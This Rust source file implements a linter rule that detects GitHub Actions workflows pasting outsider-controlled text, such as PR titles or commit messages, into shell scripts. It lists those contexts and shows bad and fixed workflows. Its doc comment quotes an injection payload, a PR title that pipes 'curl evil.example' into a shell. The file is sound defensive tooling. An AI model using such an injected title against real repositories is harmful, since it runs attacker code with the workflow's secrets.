//! Finds scripts into which a stranger's text is pasted.
//!
//! GitHub fills in `${{ … }}` before the shell sees the script, so that a pull request called
//! `"; curl evil.example | sh; "` runs what it says, with the workflow's token and secrets. It needs
//! no review and no merge: opening an issue is enough.
//!
//! A text is a stranger's if anyone who can open an issue or a pull request chooses it: titles,
//! bodies, messages, names of branches and authors.
//!
//! Left out: what maintainers choose (inputs, variables, tags), and texts that are only compared,
//! because a comparison gives `true` or `false`.
//!
//! ```bad .github/workflows/greet.yml
//! on: pull_request
//! permissions: {}
//! jobs:
//!   greet:
//!     runs-on: ubuntu-24.04
//!     timeout-minutes: 5
//!     steps:
//!       - run: echo "Thank you for ${{ github.event.pull_request.title }}"
//! ```
//!
//! ```good .github/workflows/greet.yml
//! on: pull_request
//! permissions: {}
//! jobs:
//!   greet:
//!     runs-on: ubuntu-24.04
//!     timeout-minutes: 5
//!     steps:
//!       - run: echo "Thank you for $TITLE"
//!         env:
//!           TITLE: ${{ github.event.pull_request.title }}
//! ```

use rehearsal_source::fields::clip;
use rehearsal_source::{Severity, Spanned};

use crate::artifacts::Artifacts;
use crate::finding::Findings;
use crate::kinds::workflow::expression::expressions;
use crate::kinds::workflow::{Step, Workflow};
use crate::rule::Rule;

pub(super) static RULE: Rule = Rule {
    id: "workflow-template-injection",
    severity: Severity::Error,
    title: "a stranger's text becomes a part of a script",
    help: "put the value into `env` and read it as a quoted variable",
    check,
};

fn check(artifacts: &Artifacts, findings: &mut Findings) {
    for (file, workflow) in artifacts.models::<Workflow>() {
        for step in workflow.jobs.iter().flat_map(|job| &job.steps) {
            for script in scripts(step) {
                for text in expressions(script).filter_map(strangers_text).take(TEXTS_MAX) {
                    let message = format!("anyone can choose `{}` and so run commands", clip(text));
                    findings.report(&RULE, file, file.place_of(text, script.span), message);
                }
            }
        }
    }
}

/// More texts than this in one script say nothing new.
const TEXTS_MAX: usize = 8;

/// What `step` runs as a program: its own script, or the one that it hands to an action that
/// evaluates it.
fn scripts(step: &Step) -> impl Iterator<Item = &Spanned<String>> {
    let handed = step.input("script").filter(|_| step.is_of("actions/github-script"));
    step.run.iter().chain(handed)
}

/// The part of `expression` that pastes a stranger's text, if there is one.
fn strangers_text(expression: &str) -> Option<&str> {
    /// What turns a text into `true`, `false` or a digest.
    const HARMLESS: [&str; 6] = ["==", "!=", "contains(", "startsWith(", "endsWith(", "hashFiles("];
    let operands = expression.split("||").flat_map(|operand| operand.split("&&"));
    let pasted = operands.filter(|operand| !HARMLESS.iter().any(|mark| operand.contains(mark)));
    pasted.flat_map(paths).find(|path| is_strangers(path))
}

/// The dotted paths in `operand`, with their indices.
fn paths(operand: &str) -> impl Iterator<Item = &str> {
    let is_path = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '*');
    operand.split(move |c| !is_path(c) && !matches!(c, '[' | ']'))
}

/// Whether the value at `path` is chosen by anyone.
fn is_strangers(path: &str) -> bool {
    let path = path.to_ascii_lowercase().replace(".*", "");
    // `commits[0].message` and `commits.*.message` are one thing.
    let path = match (path.find('['), path.find(']')) {
        (Some(from), Some(to)) if from < to => format!("{}{}", &path[..from], &path[to + 1..]),
        _ => path,
    };
    STRANGERS.binary_search(&path.as_str()).is_ok()
}

/// The contexts that GitHub's guide to script injections names, sorted; a list without its index.
const STRANGERS: [&str; 27] = [
    "github.event.comment.body",
    "github.event.commits.author.email",
    "github.event.commits.author.name",
    "github.event.commits.message",
    "github.event.discussion.body",
    "github.event.discussion.title",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.head_commit.message",
    "github.event.issue.body",
    "github.event.issue.title",
    "github.event.pages.page_name",
    "github.event.pull_request.body",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.title",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_repository.description",
    "github.head_ref",
];
